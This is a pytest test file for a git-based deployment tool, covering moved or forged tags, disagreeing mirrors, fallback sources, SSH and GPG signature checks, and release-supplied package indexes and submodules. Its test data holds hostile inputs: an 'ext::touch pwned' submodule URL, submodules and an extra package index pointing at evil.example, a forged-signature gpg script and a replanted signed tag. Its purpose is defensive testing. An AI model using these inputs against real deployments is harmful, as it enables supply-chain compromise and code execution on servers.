"""What code a release brings is decided by more than one word: source, remote, first sight, a second source, signatures."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest
from hosts import ALL, Codeup, GitHub
from support import needs
from support.sample import differences

from gitdeploy.config import SourceConfig
from gitdeploy.errors import PolicyError
from gitdeploy.site.remotes import checkout_git
from gitdeploy.sources.finding import find
from gitdeploy.web.page import facts
from sources.conftest import Shop, make_shop, tree


def refused(shop: Shop, *words: str, says: str | tuple[str, ...], code: int = 7) -> str:
    """The command is refused with CODE and says so; nothing live changed, nothing fetched stays as a tag."""
    before = shop.sample.state()
    tags = shop.sample.git("tag")
    done = shop.run(*words, code=code)
    for text in (says,) if isinstance(says, str) else says:
        assert text in done.err, done.err
    assert differences(before, shop.sample.state()) == []
    assert shop.sample.git("tag") == tags
    assert shop.sample.git("for-each-ref", "refs/gitdeploy/incoming") == ""
    return done.err


def live(shop: Shop) -> str:
    return (shop.sample.app / "VERSION").read_text()


# ---- moved tags ----


@pytest.mark.parametrize("shop", ["github", "git"], indirect=True)
def test_a_tag_that_moved_since_it_was_first_seen(shop: Shop) -> None:
    shop.run("upgrade", "v1.2.10")
    old = shop.sample.git("rev-parse", "v1.2.10^{commit}", cwd=shop.sample.remote)
    shop.run("upgrade", "v1.2.9", "--allow-downgrade")
    shop.sample.git("tag", "-d", "v1.2.10")
    shop.sample.git("tag", "-d", "v1.2.10", cwd=shop.sample.remote)
    new = shop.tag("v1.2.10")
    said = refused(shop, "upgrade", "v1.2.10", says=("Tag v1.2.10 was moved", "--accept-moved-tag"))
    assert old[:12] in said
    assert new[:12] in said
    shop.run("upgrade", "v1.2.10", "--accept-moved-tag")
    assert shop.sample.git("rev-parse", "HEAD") == new


@pytest.mark.parametrize("shop", ["github", "codeup", "gitlab", "gitee", "gitea"], indirect=True)
def test_the_source_says_another_commit_than_the_remote_serves(shop: Shop, tmp_path: Path) -> None:
    """The git remote is a mirror in other hands; the API tells the truth."""
    mirror = tmp_path / "mirror"
    shutil.copytree(shop.sample.remote, mirror, symlinks=True)
    (mirror / "VERSION").write_text("evil")
    shop.sample.git("commit", "-q", "-a", "-m", "evil", cwd=mirror)
    shop.sample.git("tag", "-f", "-a", "-m", "v1.2.10", "v1.2.10", cwd=mirror)
    shop.sample.git("remote", "set-url", "origin", f"file://{mirror}")
    refused(
        shop,
        "upgrade",
        "v1.2.10",
        says=("Tag v1.2.10 was moved", "at 127.0.0.1" if shop.host.kind != "codeup" else "at Codeup"),
    )


@pytest.mark.parametrize("shop", ["github", "gitlab"], indirect=True)
def test_a_tag_that_only_the_remote_has_is_no_release(shop: Shop, tmp_path: Path) -> None:
    mirror = tmp_path / "mirror"
    shutil.copytree(shop.sample.remote, mirror, symlinks=True)
    shop.sample.git("tag", "v6.6.6", cwd=mirror)
    shop.sample.git("remote", "set-url", "origin", f"file://{mirror}")
    refused(shop, "upgrade", "v6.6.6", says="has no tag v6.6.6, though the git remote has it", code=2)


def test_a_newest_lower_than_before_is_said(shop: Shop) -> None:
    shop.tag("v1.3.0")
    assert shop.check().warning is None
    shop.sample.git("tag", "-d", "v1.3.0", cwd=shop.sample.remote)
    for _ in range(2):  # it doesn't get used to it
        warning = shop.check().warning or ""
        assert "is v1.2.10 now and was v1.3.0 before" in warning
        assert "old mirror" in warning


def test_the_automatic_choice_leaves_out_what_failed_here_even_where_the_source_tells_no_commit(github: Shop) -> None:
    hook = github.sample.remote / "hooks"
    hook.mkdir()
    github.configure(more="hooks: {post-deploy: ['exit 3']}\n")
    github.run("upgrade", "v1.2.10", code=3)
    github.configure()
    refused(github, "upgrade", "--yes", says="failed here before")


def test_a_release_that_failed_here_is_known_everywhere_by_its_commit(shop: Shop) -> None:
    """Of an annotated tag some hosts tell no more than the tag's own object; another tag of that name is another release."""
    newest = "v1.2.10"
    shop.configure(more="hooks: {post-deploy: ['exit 3']}\n")
    shop.run("upgrade", newest, code=3)
    shop.configure()
    commit = shop.sample.git("rev-parse", f"{newest}^{{commit}}", cwd=shop.sample.remote)
    assert "It failed here before" in shop.run("check", "--force").out
    assert "It failed here before" in shop.run("check").out, "from the cache too"
    assert f"{newest} failed here before" in shop.run("status").out
    listed = {entry["tag"]: entry for entry in json.loads(shop.run("releases", "--json").out)}
    assert "failed at post-deploy" in listed[newest]["failed_here"]
    assert [tag for tag, entry in listed.items() if entry["failed_here"]] == [newest]
    assert re.search(rf"{newest} .*newer, failed here", shop.run("releases").out)
    assert "failed here" in shop.run("releases", newest).out
    assert shop.check().commit == commit
    assert facts.read_update(shop.app).bad is not None
    assert next(row for row in facts.read_releases(shop.app, 5) if row.tag == newest).bad is not None
    assert f"{newest} failed here before" in shop.app.look().reason

    shop.sample.git("tag", "-d", newest, cwd=shop.sample.remote)
    shop.tag(newest)  # made anew
    assert "It failed here before" not in shop.run("check", "--force").out


# ---- fallback and agree ----


@pytest.fixture
def pair(template: Path, tmp_path: Path) -> Iterator[tuple[Shop, Codeup]]:
    """GitHub as the source, Codeup as its fallback; both know the same repository."""
    shop = make_shop(template, tmp_path, GitHub)
    codeup = Codeup(shop.sample.remote)
    shop.sample.git("remote", "add", "codeup", codeup.git_url)
    yield shop, codeup
    for host in (shop.host, codeup):
        host.close()


def fallback(codeup: Codeup, more: str = "") -> str:
    return (
        f"  fallback: [{{type: codeup, repo: {codeup.repo}, url: '{codeup.origin}/oapi/v1/codeup', remote: codeup}}]\n"
        f"{more}"
    )


def test_the_fallback_answers_where_the_source_is_down_and_it_is_said(pair: tuple[Shop, Codeup]) -> None:
    shop, codeup = pair
    shop.configure(source_more=fallback(codeup))
    shop.host.fault = "status 404"
    result = shop.check()
    assert (result.latest_tag, result.source) == ("v1.2.10", "Codeup")
    assert "This is the answer of Codeup instead." in (result.warning or "")


def test_github_down_release_known_objects_from_codeup(pair: tuple[Shop, Codeup]) -> None:
    shop, codeup = pair
    shop.configure(source_more=fallback(codeup))
    shop.check()
    shop.host.close()
    done = shop.run("upgrade", "--yes")
    assert live(shop) == "v1.2.10"
    assert "v1.2.10 from codeup" in done.text


def test_both_down_and_nothing_known_says_both(pair: tuple[Shop, Codeup]) -> None:
    shop, codeup = pair
    shop.configure(source_more=fallback(codeup))
    shop.host.fault = codeup.fault = "status 418"
    error = shop.run("check", code=6).err
    assert error.count("answers with status 418") == 2


def test_two_sources_that_agree(pair: tuple[Shop, Codeup]) -> None:
    shop, codeup = pair
    shop.configure(source_more=fallback(codeup, "  agree: true\n"))
    assert shop.check().latest_tag == "v1.2.10"
    shop.run("upgrade", "v1.2.10")
    assert live(shop) == "v1.2.10"


def test_two_sources_that_disagree(pair: tuple[Shop, Codeup], tmp_path: Path) -> None:
    shop, codeup = pair
    other = tmp_path / "other"
    shutil.copytree(shop.sample.remote, other, symlinks=True)
    shop.sample.git("commit", "-q", "--allow-empty", "-m", "another", cwd=other)
    shop.sample.git("tag", "-f", "-a", "-m", "v1.2.10", "v1.2.10", cwd=other)
    codeup.folder = other
    shop.configure(source_more=fallback(codeup, "  agree: true\n"))
    refused(shop, "check", "--force", says=("disagree about v1.2.10", "Codeup"))
    refused(shop, "upgrade", "v1.2.10", says="disagree about v1.2.10")


def test_agreement_needs_two(pair: tuple[Shop, Codeup]) -> None:
    shop, codeup = pair
    shop.configure(source_more=fallback(codeup, "  agree: true\n"))
    codeup.fault = "status 418"
    refused(shop, "upgrade", "v1.2.10", says="wants two that agree", code=6)


# ---- which source it is ----


@pytest.mark.parametrize(
    ("url", "kind", "repo", "api"),
    [
        ("https://github.com/acme/shop.git", "github", "acme/shop", None),
        ("git@github.com:acme/shop.git", "github", "acme/shop", None),
        ("ssh://git@ssh.github.com:443/acme/shop.git", "github", "acme/shop", None),
        ("https://user@github.com/acme/shop", "github", "acme/shop", None),
        ("git@gitlab.com:acme/web/shop.git", "gitlab", "acme/web/shop", None),
        ("https://gitlab.example.com:8443/acme/shop.git", "gitlab", "acme/shop", "https://gitlab.example.com:8443/api/v4"),
        ("ssh://git@gitlab.example.com:2222/acme/shop.git", "gitlab", "acme/shop", "https://gitlab.example.com/api/v4"),
        ("https://gitee.com/acme/shop.git", "gitee", "acme/shop", None),
        ("git@codeup.aliyun.com:68720966aa7bbf6cb884753e/acme/shop.git", "codeup", "68720966aa7bbf6cb884753e/acme/shop", None),
        ("https://codeberg.org/acme/shop.git", "gitea", "acme/shop", "https://codeberg.org/api/v1"),
        ("https://gitea.example.com/acme/shop", "gitea", "acme/shop", "https://gitea.example.com/api/v1"),
        ("https://github.example.com/acme/shop", "github", "acme/shop", "https://github.example.com/api/v3"),
        ("https://example.com/acme/shop.git", "git", None, None),
        ("https://github.com/../../admin", "git", None, None),
        ("https://github.com/acme", "git", None, None),
        ("/srv/git/shop.git", "git", None, None),
        ("file:///srv/git/shop.git", "git", None, None),
    ],
)  # fmt: skip
def test_the_source_is_read_from_the_remotes_url(
    github: Shop, url: str, kind: str, repo: str | None, api: str | None
) -> None:
    github.sample.git("remote", "set-url", "origin", url)
    found = find(SourceConfig(), checkout_git(github.app.site))
    assert (found.kind, found.repo, found.url, found.guessed) == (kind, repo, api, True)


def test_the_users_insteadof_counts(github: Shop) -> None:
    github.sample.git("config", "url.git@gitee.com:.insteadOf", "gh:")
    github.sample.git("remote", "set-url", "origin", "gh:acme/shop.git")
    assert find(SourceConfig(), checkout_git(github.app.site)).kind == "gitee"


def test_a_repo_that_is_missing_and_a_remote_elsewhere(github: Shop) -> None:
    github.sample.git("remote", "set-url", "origin", "https://gitee.com/acme/shop.git")
    github.configure("  type: github\n")
    assert "source.repo isn't set" in github.run("check", code=2).err


def test_a_private_host_whose_address_neither_settings_nor_remote_tell(github: Shop) -> None:
    github.sample.git("remote", "set-url", "origin", "/srv/git/shop.git")
    github.configure("  type: gitea\n  repo: acme/shop\n")
    assert "needs source.url: the address of your host" in github.run("check", code=2).err


# ---- signatures ----


@pytest.fixture(scope="module")
def keys(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """SSH keys: good, other, expired; and a file of allowed signers with good (and expired, until 2020)."""
    needs.program("ssh-keygen")
    folder = tmp_path_factory.mktemp("keys")
    for name in ("good", "other", "expired"):
        subprocess.run(
            ["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", name, "-f", str(folder / name)], check=True
        )
    good, expired = ((folder / f"{name}.pub").read_text() for name in ("good", "expired"))
    (folder / "signers").write_text(
        f'releases@acme namespaces="git" {good}old@acme namespaces="git",valid-before="20200101" {expired}'
    )
    return folder


def sign(shop: Shop, tag: str, key: Path, *, light: bool = False) -> None:
    """Make TAG anew, signed by KEY; `light`: the commit is signed and the tag is a lightweight one."""
    remote = shop.sample.remote
    options = ["-c", "gpg.format=ssh", "-c", f"user.signingKey={key}"]
    (remote / "VERSION").write_text(tag)
    shop.sample.git(*options, "commit", "-q", "-a", *(["-S"] if light else []), "-m", tag, cwd=remote)
    shop.sample.git(*options, "tag", *([] if light else ["-s", "-m", tag]), tag, cwd=remote)


def verified(shop: Shop, keys: Path) -> None:
    shop.configure(more=f"git: {{verify: ssh, allowed_signers: {keys}/signers}}\n")


@pytest.fixture
def signed(template: Path, tmp_path: Path) -> Iterator[Shop]:
    shop = make_shop(template, tmp_path, ALL["git"])
    yield shop
    shop.host.close()


def test_a_tag_signed_by_an_allowed_key_goes_live(signed: Shop, keys: Path) -> None:
    sign(signed, "v2.0.0", keys / "good")
    verified(signed, keys)
    signed.run("upgrade", "v2.0.0")
    assert live(signed) == "v2.0.0"


def test_a_lightweight_tag_of_a_signed_commit_is_none(signed: Shop, keys: Path) -> None:
    sign(signed, "v2.0.0", keys / "good", light=True)
    verified(signed, keys)
    refused(signed, "upgrade", "v2.0.0", says="v2.0.0 is not signed: it is a lightweight tag")


def test_unsigned(signed: Shop, keys: Path) -> None:
    verified(signed, keys)
    refused(signed, "upgrade", "v1.2.10", says=("signature of v1.2.10", "git.verify"))
    refused(signed, "plan", "v1.2.10", says=("signature of v1.2.10", "git.verify"))


def test_of_an_unsigned_release_nothing_more_is_asked(signed: Shop, keys: Path) -> None:
    """Its submodule would be admitted: it lies beside the app's own remote."""
    verified(signed, keys)
    remote, git = signed.sample.remote, signed.sample.git
    (remote / ".gitmodules").write_text('[submodule "part"]\n\tpath = part\n\turl = ../remote\n')
    git("add", ".gitmodules", cwd=remote)
    git("update-index", "--add", "--cacheinfo", f"160000,{git('rev-parse', 'HEAD', cwd=remote)},part", cwd=remote)
    git("commit", "-q", "-m", "part", cwd=remote)
    git("tag", "-a", "-m", "v2.0.0", "v2.0.0", cwd=remote)
    own = signed.sample.app / ".git"
    before = (own / "config").read_bytes()
    with pytest.raises(PolicyError, match="signature of v2"):
        signed.app.plan("v2.0.0")
    assert not (own / "gitdeploy-incoming").exists()
    assert not (own / "modules").exists()
    assert (own / "config").read_bytes() == before


def test_signed_and_not_of_this_app_nor_of_now(signed: Shop, keys: Path) -> None:
    """Each has a good signature by an allowed key, and is not a newer release of this app's."""
    sign(signed, "v2.0.0", keys / "good")
    verified(signed, keys)
    signed.run("upgrade", "v2.0.0")
    remote, options = signed.sample.remote, ["-c", "gpg.format=ssh", "-c", f"user.signingKey={keys}/good"]
    old = signed.sample.git("rev-parse", "v1.2.9^{commit}", cwd=remote)
    tree = signed.sample.git("rev-parse", "HEAD^{tree}", cwd=remote)
    alien = signed.sample.git("commit-tree", tree, "-m", "another project", cwd=remote)
    new = signed.sample.git("commit-tree", tree, "-p", "HEAD", "-m", "new", cwd=remote)
    for tag, commit, date, says in (
        ("v3.0.0", old, "", "is an older commit than v2.0.0"),
        ("v3.0.1", alien, "", "shares no history with what is live"),
        ("v3.0.2", new, "2020-01-01T00:00:00Z", "before"),
    ):
        signed.sample.extra_environment["GIT_COMMITTER_DATE"] = date
        signed.sample.git(*options, "tag", "-s", "-m", tag, tag, commit, cwd=remote)
        del signed.sample.extra_environment["GIT_COMMITTER_DATE"]
        refused(signed, "plan", tag, says=says)
    refused(signed, "upgrade", "v3.0.0", "--allow-downgrade", says="is an older commit than v2.0.0")
    signed.run("upgrade", "v3.0.2", "--allow-downgrade")  # what the refusal says
    assert signed.sample.git("rev-parse", "HEAD") == new


def test_a_shallow_clone_is_told_to_fetch_its_history(signed: Shop, keys: Path) -> None:
    sign(signed, "v2.0.0", keys / "good")
    remote, options = signed.sample.remote, ["-c", "gpg.format=ssh", "-c", f"user.signingKey={keys}/good"]
    signed.sample.git("checkout", "-q", "-b", "side", "v1.2.9", cwd=remote)
    signed.sample.git("commit", "-q", "--allow-empty", "-m", "live", cwd=remote)
    shutil.rmtree(signed.sample.app)
    signed.sample.git("clone", "-q", "--depth", "1", f"file://{remote}", str(signed.sample.app), cwd=remote)
    signed.sample.git("checkout", "-q", "--orphan", "early", cwd=remote)
    signed.sample.git("commit", "-q", "--allow-empty", "-m", "root", cwd=remote)
    signed.sample.git("merge", "-q", "--allow-unrelated-histories", "-s", "ours", "-m", "both", "v1.2.9", cwd=remote)
    signed.sample.git(*options, "tag", "-s", "-m", "v2.1.0", "v2.1.0", cwd=remote)
    verified(signed, keys)
    refused(
        signed, "plan", "v2.1.0", says=("doesn't tell whether v2.1.0 shares history", "git fetch --unshallow origin")
    )
    signed.sample.git("fetch", "-q", "--unshallow", "origin")
    signed.run("plan", "v2.1.0")


def test_a_stolen_key_whose_time_is_over_and_a_tag_dated_back(signed: Shop, keys: Path) -> None:
    verified(signed, keys)
    signed.sample.extra_environment["GIT_COMMITTER_DATE"] = "2019-06-01T12:00:00Z"
    sign(signed, "v2.0.0", keys / "expired")
    refused(signed, "upgrade", "v2.0.0", says="isn't valid now")


def test_signed_by_a_key_that_nobody_allowed(signed: Shop, keys: Path) -> None:
    sign(signed, "v2.0.0", keys / "other")
    verified(signed, keys)
    refused(signed, "upgrade", "v2.0.0", says="signature of v2.0.0")


def test_signed_by_a_key_whose_time_is_over(signed: Shop, keys: Path) -> None:
    sign(signed, "v2.0.0", keys / "expired")
    verified(signed, keys)
    refused(signed, "upgrade", "v2.0.0", says="signature of v2.0.0")


def _replant(shop: Shop, tag: str, change: tuple[str, str]) -> None:
    """Write TAG's object anew with one text replaced, its signature left as it was."""
    remote = shop.sample.remote
    raw = shop.sample.git("cat-file", "tag", tag, cwd=remote).replace(*change) + "\n"
    done = subprocess.run(
        ["git", "hash-object", "-t", "tag", "-w", "--stdin", "--literally"],
        cwd=remote,
        input=raw.encode(),
        capture_output=True,
    )
    shop.sample.git("update-ref", f"refs/tags/{tag}", done.stdout.decode().strip(), cwd=remote)


def test_a_signature_over_another_content(signed: Shop, keys: Path) -> None:
    sign(signed, "v2.0.0", keys / "good")
    signed_commit = signed.sample.git("rev-parse", "v2.0.0^{commit}", cwd=signed.sample.remote)
    evil = signed.tag("v9-evil", light=True)
    _replant(signed, "v2.0.0", (signed_commit, evil))
    verified(signed, keys)
    refused(signed, "upgrade", "v2.0.0", says="signature of v2.0.0")


def test_an_old_signed_tag_passed_off_under_a_new_name(signed: Shop, keys: Path) -> None:
    sign(signed, "v2.0.0", keys / "good")
    oid = signed.sample.git("rev-parse", "refs/tags/v2.0.0", cwd=signed.sample.remote)
    signed.sample.git("update-ref", "refs/tags/v3.0.0", oid, cwd=signed.sample.remote)
    verified(signed, keys)
    refused(signed, "upgrade", "v3.0.0", says="holds a tag object made for `v2.0.0`")


def test_no_file_of_allowed_signers(signed: Shop, keys: Path) -> None:
    sign(signed, "v2.0.0", keys / "good")
    signed.configure(more="git: {verify: ssh, allowed_signers: nowhere}\n")
    refused(signed, "upgrade", "v2.0.0", says="there is no", code=2)


@pytest.fixture(scope="module")
def keyring(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """A GnuPG home that has the public key `good`, beside one that has the secret keys of good, other and expired."""
    needs.program("gpg")
    folder = tmp_path_factory.mktemp("gpg")
    makers, known = folder / "makers", folder / "known"
    for place in (makers, known):
        place.mkdir(mode=0o700)

    def gpg(place: Path, *words: str, stdin: bytes = b"") -> bytes:
        command = ["gpg", "--batch", "--homedir", str(place), "--pinentry-mode", "loopback", "--passphrase", "", *words]
        return subprocess.run(command, input=stdin, capture_output=True, check=True).stdout

    for name in ("good", "other"):
        gpg(makers, "--quick-gen-key", f"{name}@acme", "ed25519", "sign", "0")
    gpg(makers, "--faked-system-time", "20200101T000000", "--quick-gen-key", "expired@acme", "ed25519", "sign", "1d")
    for name in ("good@acme", "expired@acme"):
        gpg(known, "--import", stdin=gpg(makers, "--export", name))
    trust = "".join(
        f"{line.split(':')[9]}:6:\n"
        for line in gpg(known, "--list-keys", "--with-colons").decode().splitlines()
        if line.startswith("fpr")
    )
    gpg(known, "--import-ownertrust", stdin=trust.encode())
    yield folder
    for place in (makers, known):
        subprocess.run(["gpgconf", "--homedir", str(place), "--kill", "all"], capture_output=True)


def gpg_sign(shop: Shop, keyring: Path, tag: str, who: str) -> None:
    program = keyring / f"gpg-{who}"
    time = "--faked-system-time 20200101T010000" if who == "expired" else ""
    program.write_text(f'#!/bin/sh\nexec gpg --batch --homedir {keyring}/makers --pinentry-mode loopback {time} "$@"\n')
    program.chmod(0o755)
    (shop.sample.remote / "VERSION").write_text(tag)
    shop.sample.git("commit", "-q", "-a", "-m", tag, cwd=shop.sample.remote)
    shop.sample.git(
        "-c", f"gpg.program={program}", "-c", f"user.signingKey={who}@acme", "tag", "-s", "-m", tag, tag, cwd=shop.sample.remote
    )  # fmt: skip
    shop.configure(more="git: {verify: gpg}\n")
    shop.sample.extra_environment["GNUPGHOME"] = str(keyring / "known")


def test_gpg_signed_by_a_key_that_is_listed(signed: Shop, keyring: Path) -> None:
    """Where none is listed, only the key that signed what is live counts."""
    gpg_sign(signed, keyring, "v2.0.0", "good")
    said = refused(signed, "upgrade", "v2.0.0", says="git.fingerprints lists none")
    (key,) = re.findall(r"fingerprints: \[([0-9A-F]{40})\]", said)
    signed.configure(more=f"git: {{verify: gpg, fingerprints: [{'0' * 40}]}}\n")
    refused(signed, "upgrade", "v2.0.0", says="git.fingerprints doesn't list")
    signed.configure(more=f"git: {{verify: gpg, fingerprints: [{key.lower()}]}}\n")
    signed.run("upgrade", "v2.0.0")
    assert live(signed) == "v2.0.0"
    gpg_sign(signed, keyring, "v2.1.0", "good")
    signed.run("upgrade", "v2.1.0")
    assert live(signed) == "v2.1.0"


@pytest.mark.parametrize("who", ["other", "expired"])
def test_gpg_signed_by_a_key_unknown_or_expired(signed: Shop, keyring: Path, who: str) -> None:
    gpg_sign(signed, keyring, "v2.0.0", who)
    refused(signed, "upgrade", "v2.0.0", says="signature of v2.0.0")


def test_gpg_unsigned_and_over_another_content(signed: Shop, keyring: Path) -> None:
    gpg_sign(signed, keyring, "v2.0.0", "good")
    refused(signed, "upgrade", "v1.2.10", says="signature of v1.2.10")
    commit = signed.sample.git("rev-parse", "v2.0.0^{commit}", cwd=signed.sample.remote)
    _replant(signed, "v2.0.0", (commit, signed.tag("v9-evil", light=True)))
    refused(signed, "upgrade", "v2.0.0", says="signature of v2.0.0")


def test_a_gpg_program_of_the_repository_is_never_run(signed: Shop, keyring: Path, tmp_path: Path) -> None:
    gpg_sign(signed, keyring, "v2.0.0", "other")
    evil = tmp_path / "evil-gpg"
    evil.write_text(f"#!/bin/sh\ntouch {tmp_path}/ran\necho '[GNUPG:] GOODSIG x'\nexit 0\n")
    evil.chmod(0o755)
    for name in ("gpg.program", "gpg.openpgp.program", "gpg.ssh.program"):
        signed.sample.git("config", name, str(evil))
    refused(signed, "upgrade", "v2.0.0", says="signature of v2.0.0")
    assert not os.path.exists(tmp_path / "ran")


# ---- what a release brings ----


def test_a_release_that_adds_a_package_index(signed: Shop) -> None:
    signed.configure(more="venv: {path: venv, requirements: [requirements.txt]}\n")
    signed.sample.release(
        "v2.0.0", {**tree("v2.0.0"), "requirements.txt": "--extra-index-url https://evil.example/simple\nx\n"}
    )
    signed.sample.make_venv()
    plan = signed.run("plan", "v2.0.0", code=None)
    assert "--extra-index-url https://evil.example/simple" in plan.text
    before = signed.sample.state()
    said = signed.run("upgrade", "v2.0.0", code=7).err
    assert "--extra-index-url https://evil.example/simple" in said
    assert "allow_index_options" in said
    assert differences(before, signed.sample.state()) == []


@pytest.mark.parametrize(
    "settings",
    ["allow_index_options: true", "allow_index_options: true, extra_args: [--extra-index-url, https://evil.example/simple]"],
)  # fmt: skip
def test_a_release_does_not_allow_itself_another_package_index(signed: Shop, settings: str) -> None:
    signed.configure()
    signed.sample.git("add", "-f", "deploy.yaml")
    signed.sample.git("commit", "-q", "-m", "Settings")
    signed.sample.git("push", "-q", f"file://{signed.sample.remote}", "HEAD:refs/tags/v1.9.0")
    signed.sample.git("tag", "v1.9.0")
    own = (signed.sample.app / "deploy.yaml").read_text() + f"venv: {{path: venv, {settings}}}\n"
    asked = "--extra-index-url https://evil.example/simple\nx\n" if "extra_args" not in settings else "x\n"
    signed.sample.release("v2.0.0", {**tree("v2.0.0"), "deploy.yaml": own, "requirements.txt": asked})
    signed.sample.make_venv()
    said = signed.run("upgrade", "v2.0.0", code=7).err
    assert "https://evil.example/simple" in said
    key = "venv.allow_index_options" if "extra_args" not in settings else "venv.extra_args"
    assert f"v2.0.0 changes `{key}`, which is pinned on this server" in said
    assert "the release's own doesn't count" in said or "extra_args" in settings


def test_a_release_whose_submodule_comes_from_elsewhere(signed: Shop, tmp_path: Path) -> None:
    for number, url in enumerate(("ext::touch pwned", "file:///etc", "https://evil.example/x.git", "-c", "/etc")):
        remote = signed.sample.remote
        commit = signed.sample.git("rev-parse", "HEAD", cwd=remote)
        (remote / ".gitmodules").write_text(f'[submodule "part"]\n\tpath = part\n\turl = {url}\n')
        signed.sample.git("add", ".gitmodules", cwd=remote)
        signed.sample.git("update-index", "--add", "--cacheinfo", f"160000,{commit},part", cwd=remote)
        signed.sample.git("commit", "-q", "-m", url, cwd=remote)
        signed.sample.git("tag", f"v2.{number}.0", cwd=remote)
        before = signed.sample.state()
        done = signed.run("upgrade", f"v2.{number}.0", code=None)
        assert done.code in (1, 6, 7), done.text
        assert "ubmodule" in done.err or "git's own check refuses" in done.err
        assert differences(before, signed.sample.state()) == []
    assert not list(tmp_path.rglob("pwned"))
